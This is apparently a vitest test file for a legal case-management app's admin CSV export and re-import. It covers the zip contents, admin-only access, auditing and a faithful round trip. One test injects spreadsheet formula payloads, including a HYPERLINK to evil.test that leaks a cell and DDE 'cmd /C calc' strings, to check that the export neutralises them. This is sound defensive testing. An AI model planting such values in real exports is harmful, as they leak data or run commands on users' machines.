import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { addAction, createDossier, insertExpert, insertExpertiseType } from '../../../test/case-fixtures';
import { pdf, upload } from '../../../test/document-fixtures';
import { readExport, unzip } from '../../../test/export-reader';
import { ADMIN, signInAdmin, signInUser, startTestServer, type TestClient, type TestServer } from '../../../test/harness';
import { IMPORT_FIXTURES } from '../../../test/import-fixtures';
import { csvSource } from './csv-source';
import { runImport } from './import-run';
import { TRANSFER_TABLES } from './transfer-tables';
import { expectAttachment } from '../../../test/response-expectations';

let server: TestServer;
let dir: string;
beforeEach(async () => {
  server = await startTestServer();
  dir = mkdtempSync(join(tmpdir(), 'cabinet-export-test-'));
});
afterEach(async () => {
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});

/** An office with imported history and work done in Cabinet since: every kind of record, the trash included. */
async function officeWithHistory(admin: TestClient) {
  const legacy = await csvSource(join(IMPORT_FIXTURES, 'comma'));
  expect((await runImport(server.database, legacy)).refused).toEqual([]);
  await legacy.close();
  const typeExpertise = await insertExpertiseType(server, 'Balistique');
  const expert = await insertExpert(server, 'Dr Nadia Tazi', typeExpertise);
  const dossier = await createDossier(admin, {
    ref_dossier_bureau: 5001,
    nom_responsable_civil: 'عبد الله; "Le Client"',
    montant_dette: '1234.05',
    accusation: 'ligne 1\nligne 2, suite',
  });
  await addAction(admin, dossier.id_dossier, { contenu: 'Audience, renvoi', date_prochaine: '2026-03-01' });
  await addAction(admin, dossier.id_dossier, {
    fk_type_action: 60,
    contenu: null,
    expertise: { fk_type_expertise: typeExpertise, fk_expert: expert, frais: '750.50', contenu: 'Rapport' },
  });
  const trashed = await createDossier(admin, { ref_dossier_bureau: 5002, nom_responsable_civil: 'Corbeille' });
  expect((await admin.delete(`/api/dossiers/${trashed.id_dossier}`)).statusCode).toBe(204);
  await cabinetOnlyWork(admin, dossier.id_dossier);
}

/** Cabinet's own records on a dossier: parties in several roles, a rule and its deadlines, office days, a document, who does what. */
async function cabinetOnlyWork(admin: TestClient, dossierId: number) {
  const me = (await server.database.db.selectFrom('users').select('id').where('email', '=', ADMIN.email).executeTakeFirstOrThrow()).id;
  const { version } = (await admin.get(`/api/dossiers/${dossierId}`)).json();
  expect((await admin.patch(`/api/dossiers/${dossierId}`, { fk_responsible: me, version })).statusCode).toBe(200);
  const person = await admin.post('/api/parties', {
    kind: 'person',
    name: 'Mohamed Alaoui',
    name_ar: 'محمد العلوي',
    national_id: 'AB 12345',
  });
  const insurer = await admin.post('/api/parties', { kind: 'organisation', name: 'Wafa Assurance', name_ar: 'وفا للتأمين' });
  expect([person.statusCode, insurer.statusCode]).toEqual([201, 201]);
  for (const [party, role] of [
    [person, 'client'],
    [person, 'victim'],
    [insurer, 'insurer'],
  ] as const) {
    expect((await admin.post(`/api/dossiers/${dossierId}/parties`, { id_party: party.json().id_party, role })).statusCode).toBe(201);
  }
  const rule = await admin.post('/api/deadline-rules', {
    label: 'Conclusions après audience',
    labels: { fr: 'Conclusions après audience', ar: 'المذكرة بعد الجلسة' },
    amount: 10,
    unit: 'days',
    franc: false,
    trigger_type_ids: [1],
    active: true,
  });
  expect(rule.statusCode).toBe(201);
  expect((await admin.post('/api/calendar/days', { date: '2026-03-16', working: false, label: 'Grève des greffiers' })).statusCode).toBe(
    201,
  );
  expect((await admin.post('/api/calendar/days', { date: '2026-07-30', working: true, label: 'Permanence' })).statusCode).toBe(201);
  const hearing = await addAction(admin, dossierId, { fk_type_action: 1, date_action: '2026-03-06', contenu: 'Audience', fk_assignee: me });
  await addAction(admin, dossierId, { fk_type_action: 1, date_action: '2026-03-09', contenu: 'Audience, suite' });
  const deadlines = (await admin.get(`/api/dossiers/${dossierId}/deadlines`)).json().items as {
    id: number;
    version: number;
    trigger_action_id: number;
  }[];
  expect(deadlines).toHaveLength(2);
  const waived = deadlines.find((d) => d.trigger_action_id === hearing.id_action)!;
  expect(
    (await admin.patch(`/api/deadlines/${waived.id}`, { status: 'waived', note: 'Renvoi: plus de conclusions', version: waived.version }))
      .statusCode,
  ).toBe(200);
  expect((await upload(admin, dossierId, [{ filename: 'حكم ابتدائي.pdf', content: pdf() }], { title: 'Jugement' })).statusCode).toBe(201);
  await moneyWork(admin, dossierId, person.json().id_party);
}

/** The office's fiscal settings (settings do not move: the office sets them again after an import). */
const MOROCCO = { currency: 'MAD', fiscal_profile: 'MA', office_identifiers: { ice: '001525846000088', if: '40123456', tp: '35012345' } };

async function created(response: Promise<LightMyRequestResponse>) {
  const res = await response;
  expect([200, 201], res.body).toContain(res.statusCode);
  return res.json();
}

/**
 * The money of a dossier: a fee agreement, provisions, a fee billed on a note, amounts that binary
 * floats get wrong, a note paid in part, another cancelled by a credit note, a draft left as it is.
 */
async function moneyWork(admin: TestClient, dossierId: number, clientId: number) {
  expect((await admin.patch('/api/settings', MOROCCO)).statusCode).toBe(200);
  const entry = (body: Record<string, unknown>) => created(admin.post(`/api/dossiers/${dossierId}/money`, body));
  await entry({ kind: 'fee_agreement', date: '2026-03-01', amount: '0', label: 'Convention: 12,5 % du recouvré', result_percent: '12.5' });
  await entry({ kind: 'provision_requested', date: '2026-03-01', amount: '3000', label: 'Provision', fk_party: clientId });
  await entry({ kind: 'provision_received', date: '2026-03-03', amount: '1500.55', label: 'Provision reçue', fk_party: clientId, method: 'cheque', reference: 'CHQ 0012' });
  await entry({ kind: 'bar_deposit', date: '2026-03-04', amount: '0.30', label: 'Indemnité déposée à la CARPA' });
  const fee = await entry({ kind: 'fee', date: '2026-03-02', amount: '1000.10', label: 'Honoraires de première instance', billable: true });
  const draft = (body: Record<string, unknown>) => created(admin.post('/api/invoices', { fk_dossier: dossierId, fk_client_party: clientId, ...body }));
  const first = await draft({
    issue_date: '2026-03-02',
    lines: [
      { label: 'Honoraires de première instance', unit_price: '1000.10', fk_entry: fee.id },
      { label: 'Copies', quantity: '3', unit_price: '0.10', vat_rate: '0' },
    ],
    client_identifiers: { ice: '000012345000067' },
    language: 'ar',
  });
  expect((await created(admin.post(`/api/invoices/${first.id}/issue`, {}))).number).toBe('2026-0001');
  await created(admin.post(`/api/invoices/${first.id}/payments`, { date: '2026-03-05', amount: '500.05', method: 'transfer', reference: 'VIR 77' }));
  const second = await draft({ issue_date: '2026-03-03', lines: [{ label: 'Consultation', unit_price: '200' }] });
  expect((await created(admin.post(`/api/invoices/${second.id}/issue`, {}))).number).toBe('2026-0002');
  expect((await created(admin.post(`/api/invoices/${second.id}/credit-note`, { issue_date: '2026-03-04' }))).number).toBe('AV-2026-0001');
  await draft({ lines: [{ label: 'Déplacement à Fès', unit_price: '80' }], note: 'À émettre après l’audience' });
}

/** What the API shows of a dossier's money and notes, but the versions (a write's count, which an import starts again). */
async function moneyOf(admin: TestClient, dossierId: number) {
  const unversioned = (value: unknown): unknown =>
    JSON.parse(JSON.stringify(value), (key, v: unknown) => (key === 'version' ? undefined : v));
  const notes = (await admin.get(`/api/invoices?dossier=${dossierId}&page_size=100`)).json();
  const full = await Promise.all((notes.items as { id: number }[]).map(async (n) => (await admin.get(`/api/invoices/${n.id}`)).json()));
  return unversioned({ money: (await admin.get(`/api/dossiers/${dossierId}/money`)).json(), notes: full });
}

/** The imported money reads as it was, and the numbering goes on after the imported notes, which stay unchangeable. */
async function expectMoneyWork(office: TestServer, admin: TestClient, dossierId: number, before: unknown) {
  expect((await admin.patch('/api/settings', MOROCCO)).statusCode).toBe(200);
  expect(await moneyOf(admin, dossierId)).toEqual(before);
  const notes = (await admin.get(`/api/invoices?dossier=${dossierId}&page_size=100`)).json().items as {
    id: number;
    number: string | null;
    version: number;
    fk_client_party: number;
  }[];
  const issued = notes.find((n) => n.number === '2026-0001')!;
  expect((await admin.patch(`/api/invoices/${issued.id}`, { note: 'changed', version: issued.version })).statusCode).toBe(409);
  // The database's own guard is back: an issued note's lines cannot change, whoever writes them.
  await expect(office.database.db.deleteFrom('invoice_line').where('fk_invoice', '=', issued.id).execute()).rejects.toThrow(/issued fee note/);
  const draft = notes.find((n) => n.number === null)!;
  expect((await created(admin.post(`/api/invoices/${draft.id}/issue`, { version: draft.version }))).number).toBe('2026-0003');
  expect((await created(admin.post(`/api/invoices/${issued.id}/credit-note`, {}))).number).toBe('AV-2026-0002');
}

/** What cabinetOnlyWork left, as the imported office sees it through the API; the dossier's id. */
async function expectCabinetOnlyWork(office: TestServer, admin: TestClient): Promise<number> {
  const me = (await office.database.db.selectFrom('users').select('id').where('email', '=', ADMIN.email).executeTakeFirstOrThrow()).id;
  const found = (await admin.get(`/api/dossiers?q=${encodeURIComponent('وفا للتأمين')}`)).json().items as {
    id_dossier: number;
    fk_responsible: number;
  }[];
  expect(found).toHaveLength(1);
  expect(found[0]!.fk_responsible).toBe(me);
  const dossierId = found[0]!.id_dossier;
  const parties = (await admin.get(`/api/dossiers/${dossierId}/parties`)).json().items as {
    name: string;
    name_ar: string | null;
    role: string;
  }[];
  expect(parties.map((p) => [p.name_ar, p.role]).sort()).toEqual([
    ['محمد العلوي', 'client'],
    ['محمد العلوي', 'victim'],
    ['وفا للتأمين', 'insurer'],
  ]);
  const deadlines = (await admin.get(`/api/dossiers/${dossierId}/deadlines`)).json().items as {
    status: string;
    note: string | null;
    due_date: string;
    office_closed: boolean;
  }[];
  expect(deadlines.map((d) => [d.status, d.note, d.due_date, d.office_closed]).sort()).toEqual([
    // 9 March + 10 days = 19 March; 6 March + 10 = 16 March, a day the office closed: flagged, not moved.
    ['open', null, '2026-03-19', false],
    ['waived', 'Renvoi: plus de conclusions', '2026-03-16', true],
  ]);
  const days = (await admin.get('/api/calendar/days?from=2026-01-01&to=2026-12-31')).json();
  expect(JSON.stringify(days)).toContain('Grève des greffiers');
  const documents = (await admin.get(`/api/dossiers/${dossierId}/documents`)).json().items as { filename: string; title: string }[];
  expect(documents.map((d) => [d.filename, d.title])).toEqual([['حكم ابتدائي.pdf', 'Jugement']]);
  // New records come after the imported ones (PostgreSQL's sequences moved past them).
  const party = await admin.post('/api/parties', { kind: 'person', name: 'Nouveau client' });
  expect(party.statusCode).toBe(201);
  expect(party.json().id_party).toBe(3);
  const rules = (await admin.get('/api/deadline-rules')).json().items as { id: number }[];
  const rule = await admin.post('/api/deadline-rules', {
    label: 'Nouvelle règle',
    amount: 5,
    unit: 'days',
    franc: false,
    trigger_type_ids: [2],
    active: false,
  });
  expect(rule.json().id).toBe(Math.max(...rules.map((r) => r.id)) + 1);
  return dossierId;
}

describe('GET /api/admin/export', () => {
  it('downloads every table as CSV files in a zip, audited', async () => {
    const admin = await signInAdmin(server);
    await officeWithHistory(admin);
    server.clock.set(Date.parse('2026-03-04T10:00:00Z'));
    await admin.patch('/api/settings', { timezone: 'UTC' });

    const res = await admin.get('/api/admin/export');
    expectAttachment(res, 'application/zip', 'cabinet-export-2026-03-04.zip');
    const files = await unzip(res.rawPayload);
    expect([...files.keys()]).toEqual(TRANSFER_TABLES.map((t) => t.file));
    const dossiers = files.get('dossier.csv')!;
    expect(dossiers.startsWith('\uFEFFid_dossier,ref_dossier_bureau,date_inscription_bureau,')).toBe(true);
    expect(dossiers).toContain('"عبد الله; ""Le Client"""');
    expect(dossiers).toContain('1234.05');
    expect(files.get('action.csv')).toContain(ADMIN.email);
    expect(files.get('expertise.csv')).toContain('750.50');
    // Cabinet's own tables, under the names the contract gives the first three.
    expect([...files.keys()]).toEqual(expect.arrayContaining(['parties.csv', 'dossier_parties.csv', 'deadlines.csv', 'documents.csv']));
    expect(files.get('parties.csv')).toContain('محمد العلوي');
    expect(files.get('dossier_parties.csv')!.trim().split('\n')).toHaveLength(4);
    expect(files.get('deadlines.csv')).toContain('Renvoi: plus de conclusions');
    expect(files.get('calendar_entries.csv')).toContain('2026-03-16,office_closed,,Grève des greffiers');
    expect(files.get('documents.csv')).toContain('حكم ابتدائي.pdf');

    const audit = (await admin.get('/api/audit?entity=export')).json();
    expect(audit.items).toHaveLength(1);
    expect(audit.items[0]).toMatchObject({ operation: 'create', changes: { file: [null, 'cabinet-export-2026-03-04.zip'] } });
  });

  it('is for administrators only', async () => {
    const admin = await signInAdmin(server);
    const user = await signInUser(server, admin);
    expect((await user.get('/api/admin/export')).statusCode).toBe(403);
    expect((await admin.get('/api/audit?entity=export')).json().total).toBe(0);
  });

  it('writes no cell a spreadsheet would run as a formula, and the import reads each back as typed', async () => {
    const admin = await signInAdmin(server);
    const typed = {
      link: '=HYPERLINK("http://evil.test/?"&A2,"Open")',
      charge: "@SUM(1+1)*cmd|' /C calc'!A0",
      action: "+cmd|' /C calc'!A0",
      party: "-2+3+cmd|' /C calc'!A0",
      note: '=1+1',
      address: '@A1',
      quoted: "'=already quoted",
      title: '=2+3',
      filename: '=cmd.pdf',
    };
    const dossier = await createDossier(admin, { nom_responsable_civil: typed.link, accusation: typed.charge, num_police: typed.quoted });
    await addAction(admin, dossier.id_dossier, { contenu: typed.action });
    const party = await admin.post('/api/parties', { kind: 'person', name: typed.party, note: typed.note, address: typed.address });
    expect(party.statusCode).toBe(201);
    expect(
      (await admin.post(`/api/dossiers/${dossier.id_dossier}/parties`, { id_party: party.json().id_party, role: 'client' })).statusCode,
    ).toBe(201);
    expect(
      (await upload(admin, dossier.id_dossier, [{ filename: typed.filename, content: pdf() }], { title: typed.title })).statusCode,
    ).toBe(201);

    const res = await admin.get('/api/admin/export');
    const files = await unzip(res.rawPayload);
    let cells = 0;
    for (const [name, text] of files) {
      for (const row of parse(text, { bom: true }) as string[][]) {
        for (const cell of row) {
          cells++;
          if (/^-\d+([.,]\d+)?$/.test(cell)) continue;
          expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
    expect(cells).toBeGreaterThan(100);
    for (const [file, value] of [
      ['dossier.csv', typed.link],
      ['dossier.csv', typed.charge],
      ['dossier.csv', typed.quoted],
      ['action.csv', typed.action],
      ['parties.csv', typed.party],
      ['parties.csv', typed.note],
      ['parties.csv', typed.address],
      ['documents.csv', typed.title],
      ['documents.csv', typed.filename],
    ] as const) {
      expect((parse(files.get(file)!, { bom: true }) as string[][]).flat(), `${file}: ${value}`).toContain(`'${value}`);
    }

    const zipPath = join(dir, 'export.zip');
    writeFileSync(zipPath, res.rawPayload);
    const empty = await startTestServer();
    try {
      await signInAdmin(empty);
      const source = await csvSource(zipPath);
      const report = await runImport(empty.database, source);
      await source.close();
      expect(report.refused).toEqual([]);
      const db = empty.database.db;
      expect(
        await db.selectFrom('dossier').select(['nom_responsable_civil', 'accusation', 'num_police']).executeTakeFirstOrThrow(),
      ).toEqual({
        nom_responsable_civil: typed.link,
        accusation: typed.charge,
        num_police: typed.quoted,
      });
      expect((await db.selectFrom('action').select('contenu').executeTakeFirstOrThrow()).contenu).toBe(typed.action);
      expect(await db.selectFrom('party').select(['name', 'note', 'address']).executeTakeFirstOrThrow()).toEqual({
        name: typed.party,
        note: typed.note,
        address: typed.address,
      });
      expect(await db.selectFrom('document').select(['filename', 'title']).executeTakeFirstOrThrow()).toEqual({
        filename: typed.filename,
        title: typed.title,
      });
      expect(await readExport(empty.database)).toEqual(await readExport(server.database));
    } finally {
      await empty.close();
    }
  });

  // Two more servers, four imports and an export on a thread of its own: longer than the default on PostgreSQL.
  it('round trip: the import reads the zip, or its extracted folder, back into an empty database to the same data', async () => {
    const admin = await signInAdmin(server);
    await officeWithHistory(admin);
    const res = await admin.get('/api/admin/export');
    const zipPath = join(dir, 'export.zip');
    writeFileSync(zipPath, res.rawPayload);
    const original = await readExport(server.database);
    expect(original['dossier.csv']!.some((row) => row.includes('Corbeille') && row.at(-5) !== '')).toBe(true);
    const dossierWithMoney = (await admin.get(`/api/dossiers?q=${encodeURIComponent('وفا للتأمين')}`)).json().items[0].id_dossier as number;
    const money = await moneyOf(admin, dossierWithMoney);
    expect(original['invoices.csv']).toHaveLength(5);
    expect(original['invoice_series.csv']!.slice(1).map((row) => row.slice(0, 2))).toEqual([
      ['2026', '2'],
      ['AV-2026', '1'],
    ]);

    const folder = join(dir, 'extracted');
    mkdirSync(folder);
    for (const [name, text] of await unzip(res.rawPayload)) writeFileSync(join(folder, name), text);

    for (const path of [zipPath, folder]) {
      const empty = await startTestServer();
      try {
        // Accounts do not move: the office creates them first, and the responsible lawyer and
        // assignee find theirs by email.
        const emptyAdmin = await signInAdmin(empty);
        // So are the settings: the office chooses its currency before its money comes in.
        expect((await emptyAdmin.patch('/api/settings', MOROCCO)).statusCode).toBe(200);
        const source = await csvSource(path);
        const report = await runImport(empty.database, source);
        await source.close();
        expect(report.refused).toEqual([]);
        expect(await readExport(empty.database)).toEqual(original);
        // The trashed dossier is still in the trash, its reference free for a live dossier.
        const trashed = await empty.database.db
          .selectFrom('dossier')
          .select('deleted_at')
          .where('nom_responsable_civil', '=', 'Corbeille')
          .executeTakeFirstOrThrow();
        expect(trashed.deleted_at).not.toBeNull();
        // The same import again changes nothing, links (a key of three columns) included.
        const again = await csvSource(path);
        const second = await runImport(empty.database, again);
        await again.close();
        expect(second.refused).toEqual([]);
        expect(second.tables.filter((t) => t.inserted + t.replaced > 0)).toEqual([]);
        expect(second.tables.find((t) => t.file === 'dossier_parties.csv')).toMatchObject({ rows: 3, unchanged: 3 });
        expect(await readExport(empty.database)).toEqual(original);
        expect(await expectCabinetOnlyWork(empty, emptyAdmin)).toBe(dossierWithMoney);
        await expectMoneyWork(empty, emptyAdmin, dossierWithMoney, money);
      } finally {
        await empty.close();
      }
    }
  }, 60_000);
});
